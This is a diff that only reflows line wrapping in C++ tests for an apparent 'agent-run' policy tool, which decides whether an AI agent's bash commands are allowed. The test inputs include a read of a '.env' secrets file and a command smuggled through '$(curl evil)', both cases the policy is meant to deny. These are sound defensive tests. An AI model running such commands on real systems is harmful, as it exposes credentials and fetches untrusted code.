@@ -58,9 +58,10 @@ BOOST_AUTO_TEST_CASE(explain_prints_the_denying_rule_and_why_and_exits_1) {
                                        folder.path());
   BOOST_TEST_INFO(result.output);
   BOOST_TEST(result.exit_code == 1);
-  BOOST_TEST(contains(result.output, "decision: denied\ndecided by: rule 'secrets'\n"
-                                     "reason: denied by policy: secret files are off limits (command 2 "
-                                     "`cat ./src/../.env`)\n"));
+  BOOST_TEST(contains(result.output,
+                      "decision: denied\ndecided by: rule 'secrets'\n"
+                      "reason: denied by policy: secret files are off limits (command 2 "
+                      "`cat ./src/../.env`)\n"));
   CommandResult unparsed = run_agent_run({"policy", "explain", "--policy", "policy.yaml", "--tool", "bash", "--input",
                                           R"j({"command": "python3 -m unittest $(curl evil)"})j"},
                                          folder.path());
@@ -80,8 +81,8 @@ BOOST_AUTO_TEST_CASE(explain_refuses_bad_invocations_with_exit_2) {
       {"policy", "explain", "--policy", "policy.yaml", "--tool", "bash", "--input", "{not json"}, folder.path());
   BOOST_TEST(no_json.exit_code == 2);
   BOOST_TEST(contains(no_json.output, "agent-run: --input must be a JSON object: "));
-  CommandResult bad_tool = run_agent_run(
-      {"policy", "explain", "--policy", "policy.yaml", "--tool", "bsh", "--input", "{}"}, folder.path());
+  CommandResult bad_tool =
+      run_agent_run({"policy", "explain", "--policy", "policy.yaml", "--tool", "bsh", "--input", "{}"}, folder.path());
   BOOST_TEST(bad_tool.exit_code == 2);
   BOOST_TEST(contains(bad_tool.output, "agent-run: --tool: unknown tool 'bsh' (did you mean 'bash'?)"));
   CommandResult missing = run_agent_run({"policy", "explain", "--tool", "bash"}, folder.path());
@@ -98,18 +99,22 @@ BOOST_AUTO_TEST_CASE(test_runs_the_examples_and_reports_each) {
   CommandResult good = run_agent_run({"policy", "test", "good.yaml"}, folder.path());
   BOOST_TEST_INFO(good.output);
   BOOST_TEST(good.exit_code == 0);
-  BOOST_TEST(contains(good.output, "good.yaml:6:24: ok    example 'python3 -m unittest -q' of rule 'run-tests' matches: "
-                                   "the rule allows it\n"));
+  BOOST_TEST(contains(good.output,
+                      "good.yaml:6:24: ok    example 'python3 -m unittest -q' of rule 'run-tests' matches: "
+                      "the rule allows it\n"));
   BOOST_TEST(contains(good.output, "\n2 passed, 0 failed\n"));
-  folder.write("bad.yaml", "version: 1\nrules:\n  - id: no-rm\n    deny: bash\n    argv_prefix: [rm]\n"
-                           "    examples: {match: [\"echo rm\"], not_match: [\"/bin/rm x\"]}\n");
+  folder.write("bad.yaml",
+               "version: 1\nrules:\n  - id: no-rm\n    deny: bash\n    argv_prefix: [rm]\n"
+               "    examples: {match: [\"echo rm\"], not_match: [\"/bin/rm x\"]}\n");
   CommandResult bad = run_agent_run({"policy", "test", "bad.yaml"}, folder.path());
   BOOST_TEST_INFO(bad.output);
   BOOST_TEST(bad.exit_code == 1);
-  BOOST_TEST(contains(bad.output, "bad.yaml:6:24: FAIL  example 'echo rm' of rule 'no-rm' should match, but the rule "
-                                  "does not deny it\n"));
-  BOOST_TEST(contains(bad.output, "bad.yaml:6:48: FAIL  example '/bin/rm x' of rule 'no-rm' should not match, but the "
-                                  "rule denies it\n"));
+  BOOST_TEST(contains(bad.output,
+                      "bad.yaml:6:24: FAIL  example 'echo rm' of rule 'no-rm' should match, but the rule "
+                      "does not deny it\n"));
+  BOOST_TEST(contains(bad.output,
+                      "bad.yaml:6:48: FAIL  example '/bin/rm x' of rule 'no-rm' should not match, but the "
+                      "rule denies it\n"));
   BOOST_TEST(contains(bad.output, "0 passed, 2 failed\n"));
   CommandResult validate = run_agent_run({"validate", "bad.yaml"}, folder.path());
   BOOST_TEST(validate.exit_code == 2);
